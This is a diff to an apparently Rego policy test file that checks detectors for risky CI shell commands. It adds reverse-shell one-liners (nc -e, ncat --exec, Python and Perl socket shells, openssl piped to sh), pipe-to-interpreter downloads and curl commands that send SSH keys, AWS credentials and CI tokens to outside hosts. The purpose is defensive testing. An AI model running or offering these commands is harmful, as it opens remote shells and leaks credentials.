@@ -11,6 +11,7 @@ test_run_downloads if {
 		"bash <(curl -s https://example.com/a.sh)",
 		"iex ((New-Object Net.WebClient).DownloadString('https://example.com/a.ps1'))",
 		"irm https://example.com/a.ps1 | iex",
+		"deno run -A https://example.com/a.ts",
 	] {
 		count(shell.run_downloads(script)) > 0
 	}
@@ -36,10 +37,19 @@ test_reverse_shells if {
 		"nc 192.0.2.7 443 < secrets.txt",
 		"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | nc host 443",
 		"socat tcp:192.0.2.7:443 exec:/bin/bash",
+		"/bin/nc -w 3 192.0.2.7 443",
+		"nc.traditional -e /bin/sh host 443",
+		"ncat host 443 --exec /bin/bash",
+		`python3 -c 'import socket,os;s=socket.socket();s.connect(("192.0.2.7",443));os.dup2(s.fileno(),0)'`,
+		`perl -e 'use Socket;socket(S,2,1,6);exec("/bin/sh -i");'`,
+		"openssl s_client -quiet -connect 192.0.2.7:443 | /bin/sh",
+		"xterm -display 192.0.2.7:1",
 	] {
 		count(shell.reverse_shells(script)) > 0
 	}
 	shell.reverse_shells("nc -z db 5432 && echo up") == set()
+	shell.reverse_shells("nc -vz -w 5 192.0.2.7 5432") == set()
+	shell.reverse_shells("nc 127.0.0.1 5432") == set()
 	shell.reverse_shells(null) == set()
 }
 
@@ -156,6 +166,50 @@ test_downloads_that_run_from_a_variable if {
 	shell.run_variables(7) == set()
 }
 
+test_downloads_that_run_from_a_file if {
+	shell.run_files("curl -fsSL -o install.sh https://example.com/a\nbash install.sh") == {"install.sh"}
+	shell.run_files("curl -L https://example.com/a > /tmp/setup.sh && /tmp/setup.sh") == {"setup.sh"}
+	shell.run_files("wget https://example.com/get.py; python3 get.py") == {"get.py"}
+	shell.run_files("wget https://example.com/get.sh\necho x | sha256sum -c && sh get.sh") == set()
+	shell.run_files("curl -o install.sh https://example.com/a && cat install.sh") == set()
+	shell.run_files("curl -o data.json https://example.com/a && sh build.sh") == set()
+	shell.run_files(null) == set()
+}
+
+test_plain_downloads_of_other_hosts if {
+	every script in [
+		"wget http://example.com/a",
+		"curl -o a ftp://example.com/a",
+		"git clone git://example.com/a",
+		"pip install --index-url http://example.com/simple x",
+		"npm config set registry http://example.com",
+		"rpm -i http://example.com/x.rpm",
+		"iwr http://example.com/a -OutFile a",
+		"(New-Object Net.WebClient).DownloadFile('http://example.com/a', 'a')",
+	] {
+		count(shell.plain_downloads(script)) == 1
+	}
+}
+
+test_plain_downloads_of_the_own_network if {
+	every script in [
+		"curl https://example.com/a",
+		"curl http://localhost:8080/health",
+		"curl http://web:8080",
+		"curl -f http://192.168.1.4/a",
+		"curl http://$HOST/a",
+		"curl -x http://proxy.example.com:3128 https://example.com",
+		"npm config set proxy http://cache.example.com:3128",
+		"curl http://web.default.svc.cluster.local/a",
+		"git clone https://example.com/a",
+		"# curl http://example.com",
+		"echo http://example.com",
+		1,
+	] {
+		shell.plain_downloads(script) == set()
+	}
+}
+
 test_leaks if {
 	every script in [
 		"curl -X POST -d @x https://webhook.site/1",
@@ -165,6 +219,10 @@ test_leaks if {
 		"curl --data \"$(cat ~/.aws/credentials)\" https://example.com",
 		"curl -X POST --data \"$CI_JOB_JWT_V1\" https://example.com",
 		"curl -d '${{ toJSON(secrets) }}' https://example.com",
+		"curl -X POST -s --data \"@.secrets\" https://example.com",
+		"curl -T ~/.ssh/id_rsa https://example.com",
+		"curl -F \"a=$CI_REGISTRY_PASSWORD\" https://example.com",
+		"curl https://example.com/?x=$CI_JOB_JWT",
 	] {
 		count(shell.leaks(script)) > 0
 	}
@@ -175,6 +233,8 @@ test_requests_that_leak_nothing if {
 		"curl -H \"Authorization: Bearer $TOKEN\" https://example.com",
 		"curl --form token=$CI_JOB_TOKEN https://gitlab.example.com/api/v4/projects/1/trigger/pipeline",
 		"env | sort",
+		"curl -d @payload.json https://example.com",
+		"curl -u user@example.com:x -d client_secret=x https://example.com",
 		"# curl https://webhook.site/1",
 		null,
 	] {
